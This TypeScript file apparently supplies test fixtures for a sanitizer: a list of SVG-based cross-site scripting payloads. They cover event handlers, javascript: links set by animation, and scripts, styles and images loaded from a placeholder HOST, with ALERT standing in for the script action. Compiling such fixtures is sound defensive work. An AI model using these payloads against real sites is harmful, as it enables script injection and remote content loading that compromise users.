import type { AttackText } from './attack.ts';

/** SVG: script, animation and everything in it that names another document. */
export const svgAttacks: readonly AttackText[] = [
  ['svg onload', '<svg onload=ALERT>'],
  ['svg in a slash', '<svg/onload=ALERT>'],
  ['svg script', '<svg><script>ALERT</script></svg>'],
  ['svg script with entities', '<svg><script>&#97;lert(ID)</script></svg>'],
  ['svg script with href', '<svg><script href="http://HOST/s.js"></script></svg>'],
  ['svg script with xlink:href', '<svg><script xlink:href="http://HOST/s2.js"></script></svg>'],
  ['svg script from a data URL', '<svg><script href="data:text/javascript,ALERT"></script></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=ALERT attributeName=x dur=1s></svg>'],
  ['svg animate onend', '<svg><animate onend=ALERT attributeName=x dur=1ms></svg>'],
  ['svg animate onrepeat', '<svg><animate onrepeat=ALERT attributeName=x dur=1ms repeatCount=9></svg>'],
  ['svg set onbegin', '<svg><set onbegin=ALERT attributeName=x to=y></svg>'],
  ['svg animateTransform onbegin', '<svg><animateTransform onbegin=ALERT attributeName=transform></svg>'],
  ['svg animateMotion onbegin', '<svg><animateMotion onbegin=ALERT dur=1s></svg>'],
  ['svg a with a javascript: href', '<svg><a href="javascript:ALERT"><text y=20>x</text></a></svg>'],
  ['svg a with a javascript: xlink:href', '<svg><a xlink:href="javascript:ALERT"><text y=20>x</text></a></svg>'],
  [
    'svg animate of an href',
    '<svg><a><animate attributeName=href values="javascript:ALERT"/><text y=20>x</text></a></svg>',
  ],
  ['svg set of an href', '<svg><a><set attributeName=href to="javascript:ALERT"/><text y=20>x</text></a></svg>'],
  [
    'svg animate from and to of an xlink:href',
    '<svg><a><animate attributeName=xlink:href from="javascript:ALERT" to="#"/><text y=20>x</text></a></svg>',
  ],
  ['svg image href', '<svg><image href="http://HOST/i.svg"></svg>'],
  ['svg image xlink:href', '<svg><image xlink:href="http://HOST/ix.svg"></svg>'],
  [
    'svg feImage',
    '<svg width=90 height=90><filter id=f><feImage href="http://HOST/fe.svg"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
  ],
  [
    'svg feImage xlink',
    '<svg width=90 height=90><filter id=f><feImage xlink:href="http://HOST/fex.svg"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
  ],
  ['svg use of another document', '<svg><use href="http://HOST/u.svg#a"></svg>'],
  ['svg use xlink of another document', '<svg><use xlink:href="http://HOST/ux.svg#a"></svg>'],
  [
    'svg use of a data document',
    '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><image href=http://HOST/ud.svg /></svg>#a"></svg>',
  ],
  ['svg fill from elsewhere', '<svg><rect width=9 height=9 fill="url(http://HOST/f.svg#a)"/></svg>'],
  ['svg stroke from elsewhere', '<svg><rect width=9 height=9 stroke="url(http://HOST/st.svg#a)"/></svg>'],
  ['svg filter from elsewhere', '<svg><rect width=9 height=9 filter="url(http://HOST/fi.svg#a)"/></svg>'],
  ['svg mask from elsewhere', '<svg><rect width=9 height=9 mask="url(http://HOST/ma.svg#a)"/></svg>'],
  ['svg clip-path from elsewhere', '<svg><rect width=9 height=9 clip-path="url(http://HOST/cp.svg#a)"/></svg>'],
  ['svg marker from elsewhere', '<svg><path d="M0 0L9 9" marker-start="url(http://HOST/mk.svg#a)"/></svg>'],
  ['svg cursor from elsewhere', '<svg><rect width=9 height=9 cursor="url(http://HOST/cu.svg),auto"/></svg>'],
  [
    'svg pattern with a picture',
    '<svg width=90 height=90><pattern id=p width=9 height=9><image href="http://HOST/pat.svg"/></pattern><rect width=90 height=90 fill="url(#p)"/></svg>',
  ],
  ['svg style element', '<svg><style>rect{fill:url(http://HOST/ss.svg#a)}</style><rect width=9 height=9></svg>'],
  ['svg style with an import', '<svg><style>@import "http://HOST/si.css"</style></svg>'],
  ['svg style with entities', '<svg><style>@im&#112;ort "http://HOST/se.css"</style></svg>'],
  ['svg style in CDATA', '<svg><style><![CDATA[@import "http://HOST/sc.css"]]></style></svg>'],
  ['svg style attribute', '<svg><rect width=9 height=9 style="fill:url(http://HOST/sa.svg#a)"/></svg>'],
  ['svg foreignObject with a script', '<svg><foreignObject><script>ALERT</script></foreignObject></svg>'],
  [
    'svg foreignObject with a picture',
    '<svg><foreignObject width=99 height=99><img src=x: onerror=ALERT></foreignObject></svg>',
  ],
  [
    'svg foreignObject with a frame',
    '<svg><foreignObject width=99 height=99><iframe src="http://HOST/fo"></iframe></foreignObject></svg>',
  ],
  ['svg desc with a picture', '<svg><desc><img src=x: onerror=ALERT></desc></svg>'],
  ['svg title with a script', '<svg><title><script>ALERT</script></title></svg>'],
  ['svg animate of a handler', '<svg><image href=x:><set attributeName=onerror to=ALERT></image></svg>'],
  ['svg discard onbegin', '<svg><discard onbegin=ALERT></svg>'],
  [
    'svg mpath from elsewhere',
    '<svg><circle r=5><animateMotion dur=1s><mpath href="http://HOST/mp.svg#a"/></animateMotion></circle></svg>',
  ],
  [
    'svg linearGradient href from elsewhere',
    '<svg><linearGradient id=g href="http://HOST/lg.svg#a"/><rect width=9 height=9 fill="url(#g)"/></svg>',
  ],
  ['svg textPath from elsewhere', '<svg><text><textPath href="http://HOST/tp.svg#a">x</textPath></text></svg>'],
  ['svg audio inside', '<svg><foreignObject><audio src="http://HOST/au.mp3" autoplay></audio></foreignObject></svg>'],
  ['svg handler of focus', '<svg><a tabindex=0 autofocus onfocus=ALERT><text y=20>x</text></a></svg>'],
  [
    'svg that animates the picture of an image',
    '<svg><image><animate attributeName=href values="http://HOST/an.svg" dur=1s fill=freeze /></image></svg>',
  ],
  [
    'svg that sets the picture of an image',
    '<svg><image><set attributeName=href to="http://HOST/set.svg"/></image></svg>',
  ],
  [
    'svg as a picture with a script',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ALERT'/>\">",
  ],
  [
    'svg as an object with a script',
    "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ALERT'/>\"></object>",
  ],
  [
    'svg as an embed that loads',
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/emb.svg'/></svg>\">",
  ],
  [
    'svg as a frame that loads',
    "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/frm.svg'/></svg>\"></iframe>",
  ],
];
